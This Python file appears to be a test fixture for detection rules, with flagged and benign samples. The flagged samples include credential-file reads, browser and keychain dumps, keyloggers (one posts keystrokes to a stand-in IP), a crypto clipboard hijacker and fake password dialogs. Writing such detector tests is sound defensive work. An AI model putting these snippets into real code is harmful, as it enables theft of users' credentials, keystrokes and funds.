# Annotated examples for secrets and environment rules (default set).
import json
import os
import subprocess
import keyring
import win32cred

# ruleid: AIR-SEC-001
env_copy = os.environ.copy()
# ruleid: AIR-SEC-001
pairs = list(os.environ.items())
# ok: AIR-SEC-001
names = {"a": 1}.copy()
# ruleid: AIR-SEC-001
secrets = {k: os.environ[k] for k in os.environ if "KEY" in k}
# ruleid: AIR-SEC-001
for name in os.environ:
    print(name)
# ok: AIR-SEC-001
for name in sorted(names):
    print(name)

# ruleid: AIR-SEC-002
dumped = json.dumps(dict(os.environ))
# ruleid: AIR-SEC-002
snapshot = dict(os.environ)
# ok: AIR-SEC-002
region = repr(os.environ.get("REGION"))
# ok: AIR-SEC-002
settings = dict(region=os.environ.get("REGION"))

# ruleid: AIR-SEC-011
blob = str(os.environ)
# ruleid: AIR-SEC-011
print(os.environ)
# ruleid: AIR-SEC-011
dumped = json.dumps(*[os.environ])
# ok: AIR-SEC-011
home = str(os.environ.get("HOME"))
# ok: AIR-SEC-011
print(os.environ["USER"])

# ruleid: AIR-SEC-003
api_url = os.getenv("API_URL", "https://api.example.com")
# ruleid: AIR-SEC-003
debug = os.environ.get("DEBUG")
# ok: AIR-SEC-003
options = {"DEBUG": "1"}.get("DEBUG")

# ruleid: AIR-SEC-004
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
# ruleid: AIR-SEC-004
pub = os.path.join("/home/alice", ".ssh", "id_ed25519")
# ok: AIR-SEC-004
label = "ssh is a protocol"

# ruleid: AIR-SEC-005
creds = open(os.path.expanduser("~/.aws/credentials")).read()
# ruleid: AIR-SEC-005
netrc = os.path.expanduser("~/.netrc")
# ruleid: AIR-SEC-005
gitcreds = "~/" + ".git-" + "credentials"
# ok: AIR-SEC-005
aws_region = "eu-west-1"
# ruleid: AIR-SEC-005
sa_token = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
# ruleid: AIR-SEC-005
imds = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
# ok: AIR-SEC-005
region_url = "http://169.254.169.254/latest/meta-data/placement/region"

# ruleid: AIR-SEC-006
shadow = open("/etc/shadow").read()
# ruleid: AIR-SEC-006
init_env = open("/proc/1/environ", "rb").read()
# ok: AIR-SEC-006
hostname = open("/etc/hostname").read()

# ruleid: AIR-SEC-007
chrome = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
# ruleid: AIR-SEC-007
ff = "~/.mozilla/firefox/abc.default/logins.json"
# ruleid: AIR-SEC-007
steam_cfg = "C:\\Program Files (x86)\\Steam\\config"
# ruleid: AIR-SEC-007
filezilla = os.path.expandvars("%APPDATA%\\FileZilla\\recentservers.xml")
# ok: AIR-SEC-007
game_dir = "C:\\Program Files (x86)\\Steam\\steamapps\\common"
# ok: AIR-SEC-007
login = "login page"
# ruleid: AIR-SEC-007
leveldb = os.path.join(os.getenv("APPDATA"), "discord", "Local Storage", "leveldb")
# ruleid: AIR-SEC-007
tg = os.path.expanduser("~/.local/share/TelegramDesktop/tdata")
# ok: AIR-SEC-007
bot_name = "discord_bot_helper"

# ruleid: AIR-SEC-008
token = keyring.get_password("github", "me")
# ok: AIR-SEC-008
keyring_backend = "file"

# ruleid: AIR-SEC-009
subprocess.check_output(["security", "find-generic-password", "-wa", "Chrome"])
# ok: AIR-SEC-009
subprocess.check_output(["security", "list-keychains"])
# ok: AIR-SEC-007
heading = "Web Data Extraction"

import pyperclip
from pynput import keyboard as kb

# ruleid: AIR-SEC-010
listener = kb.Listener(on_press=print)
# ruleid: AIR-SEC-010
clip = pyperclip.paste()
# ok: AIR-SEC-010
pyperclip.copy("result ready")

# ruleid: AIR-SEC-012
AWS_ACCESS_KEY_ID = "AKIAIOSFODNN7EXAMPLE"
# ruleid: AIR-SEC-012
PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIE..."
# ruleid: AIR-SEC-012
GITHUB = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
# ok: AIR-SEC-012
LABEL = "AKIA is the prefix of AWS access key ids"
# ok: AIR-SEC-012
TASK_ID = "sk-1234"

# ruleid: AIR-SEC-013
pyperclip.copy("bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh")
WALLET = "0x52908400098527886E0F7030069857D2E4169EE7"
# ruleid: AIR-SEC-013
pyperclip.copy(WALLET)
# ok: AIR-SEC-013
pyperclip.copy("build 1f3a9c finished")

import re as _re

import pyperclip

ATTACKER = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"
copied = pyperclip.paste()
if _re.match(r"^(bc1|[13])\w{25,39}$", copied):
    # ruleid: AIR-SEC-014
    pyperclip.copy(ATTACKER)
# ruleid: AIR-SEC-014
pyperclip.copy("0x52908400098527886E0F7030069857D2E4169EE7")
# ok: AIR-SEC-014
pyperclip.copy(copied.strip().upper())
# ok: AIR-SEC-014
pyperclip.copy("Meeting moved to 3pm, see https://example.org/cal")

import keyboard
import requests
from pynput.keyboard import Key, Listener


def record(key):
    with open("keys.log", "a") as fh:
        fh.write(str(key))


def on_press(key):
    record(key)


def on_release(key):
    if key == Key.esc:
        return False
    print("released", key)


# ruleid: AIR-SEC-015
with Listener(on_press=on_press) as listener:
    listener.join()
# ruleid: AIR-SEC-015
keyboard.on_press(lambda e: requests.post("http://203.0.113.7/k", data=e.name))
# ok: AIR-SEC-015
with Listener(on_release=on_release) as quitter:
    quitter.join()
# ok: AIR-SEC-015
keyboard.on_press(lambda e: print(e.name))


def dumps_sorted(*args):
    # ok: AIR-SEC-011
    return json.dumps(*args, sort_keys=True)

import ctypes  # noqa: E402

import win32com.client  # noqa: E402

# ruleid: AIR-SEC-016
mapi = win32com.client.Dispatch("Outlook.Application").GetNamespace("MAPI")
inbox = mapi.GetDefaultFolder(6)
# ok: AIR-SEC-016
draft = win32com.client.Dispatch("Outlook.Application").CreateItem(0)
# ruleid: AIR-SEC-010
pressed = ctypes.windll.user32.GetAsyncKeyState(0x41)
# ok: AIR-SEC-010
width = ctypes.windll.user32.GetSystemMetrics(0)

import pyHook  # noqa: E402


def on_key_down(event):
    typed_log.write(chr(event.Ascii))
    return True


typed_log = open("keys.txt", "a")
hooks = pyHook.HookManager()
# ruleid: AIR-SEC-015
hooks.KeyDown = on_key_down


class TypedBuffer:
    def __init__(self):
        self.logs = ""
        # ruleid: AIR-SEC-015
        self.listener = Listener(on_press=self.on_key)

    def on_key(self, key):
        self.logs += str(key)


class Hotkeys:
    def __init__(self):
        # ok: AIR-SEC-015
        self.listener = Listener(on_press=self.on_hotkey)

    def on_hotkey(self, key):
        if key == Key.esc:
            print("bye")
# ruleid: AIR-SEC-009
toolkit = "LaZagne/Windows"
# ruleid: AIR-SEC-009
wifi = subprocess.check_output('netsh wlan show profile "home" key=clear', shell=True)
# ok: AIR-SEC-009
networks = subprocess.check_output("netsh wlan show networks", shell=True)
# ruleid: AIR-SEC-018
subprocess.run("screencapture -x /tmp/screen.png", shell=True)
# ok: AIR-SEC-018
capture_dir = "screenshots"
# ok: AIR-SEC-018
caption = "A grim outlook: assets/grim.png"
# ruleid: AIR-SEC-019
password = subprocess.getoutput("osascript -e 'display dialog \"Software Update requires your password\" default answer \"\" with hidden answer' -e 'text returned of result'")
# ruleid: AIR-SEC-019
creds = subprocess.getoutput("powershell \"$cred=$host.ui.promptforcredential('Windows Security','',[Environment]::UserName,'')\"")
# ok: AIR-SEC-019
subprocess.run(["zenity", "--info", "--text", "Backup finished"])
# ok: AIR-SEC-019
subprocess.run("osascript -e 'display dialog \"Backup finished\" buttons {\"OK\"}'", shell=True)
# ruleid: AIR-SEC-006
wifi_secrets = os.listdir("/etc/NetworkManager/system-connections")
# ruleid: AIR-SEC-009
vaultcli = ctypes.WinDLL("vaultcli.dll")
# ok: AIR-SEC-009
vault_note = "see the vaultcli.dll documentation"
# ruleid: AIR-SEC-008
stored = win32cred.CredEnumerate(None, 0)
# ruleid: AIR-SEC-020
sessions_key = r"Software\Martin Prikryl\WinSCP 2\Sessions"
# ruleid: AIR-SEC-020
vnc_key = "HKEY_LOCAL_MACHINE\\SOFTWARE\\RealVNC\\WinVNC4"
# ok: AIR-SEC-020
putty_docs = "PuTTY is an SSH client"
# ok: AIR-SEC-020
default_value = "DefaultPasswordLength"
